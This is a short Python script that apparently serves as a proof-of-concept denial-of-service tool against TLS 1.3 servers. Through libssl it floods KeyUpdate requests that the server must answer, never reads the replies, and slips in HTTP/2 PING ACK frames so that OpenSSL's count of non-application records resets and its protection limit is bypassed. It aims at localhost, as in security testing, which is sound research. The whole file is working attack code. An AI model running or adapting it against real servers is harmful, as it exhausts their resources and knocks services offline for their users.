"""A TLS 1.3 client that floods KeyUpdate messages and never reads: libssl itself (through ctypes),
so the records are OpenSSL's, not ours. After the handshake it sends the HTTP/2 preface, then, for
SECONDS, batches of 20 KeyUpdates (each one an update_requested the server must answer) followed by
one PING ACK frame (application data, which resets OpenSSL's own count of non-application records).

usage: keyupdate.py PORT SECONDS
"""
import ctypes, socket, sys, time, struct
ssl = ctypes.CDLL("libssl.so.3")
ssl.TLS_client_method.restype = ctypes.c_void_p
ssl.SSL_CTX_new.restype = ctypes.c_void_p; ssl.SSL_CTX_new.argtypes = [ctypes.c_void_p]
ssl.SSL_new.restype = ctypes.c_void_p; ssl.SSL_new.argtypes = [ctypes.c_void_p]
for f in ("SSL_set_fd","SSL_connect","SSL_write","SSL_key_update","SSL_do_handshake","SSL_get_error"):
    getattr(ssl, f).restype = ctypes.c_int
ssl.SSL_set_fd.argtypes=[ctypes.c_void_p, ctypes.c_int]; ssl.SSL_connect.argtypes=[ctypes.c_void_p]
ssl.SSL_write.argtypes=[ctypes.c_void_p, ctypes.c_char_p, ctypes.c_int]
ssl.SSL_key_update.argtypes=[ctypes.c_void_p, ctypes.c_int]; ssl.SSL_do_handshake.argtypes=[ctypes.c_void_p]
ssl.SSL_ctrl.argtypes=[ctypes.c_void_p, ctypes.c_int, ctypes.c_long, ctypes.c_void_p]
port=int(sys.argv[1]); seconds=float(sys.argv[2])
ctx = ssl.SSL_CTX_new(ssl.TLS_client_method())
s = socket.create_connection(("127.0.0.1", port))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
h = ssl.SSL_new(ctx); ssl.SSL_set_fd(h, s.fileno())
assert ssl.SSL_connect(h) == 1, "connect"
pre = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
ssl.SSL_write(h, pre, len(pre))
pingack = b"\x00\x00\x08\x06\x01\x00\x00\x00\x00" + b"\x00"*8
t0=time.time(); n=0
while time.time()-t0 < seconds:
    for i in range(20):
        if ssl.SSL_key_update(h, 1) != 1: print("key_update failed after", n); sys.exit()
        if ssl.SSL_do_handshake(h) != 1: print("do_handshake failed after", n, ssl.SSL_get_error(h, 0)); sys.exit()
        n += 1
    if ssl.SSL_write(h, pingack, len(pingack)) <= 0: print("write failed after", n); sys.exit()
print("sent", n, "key updates without reading")
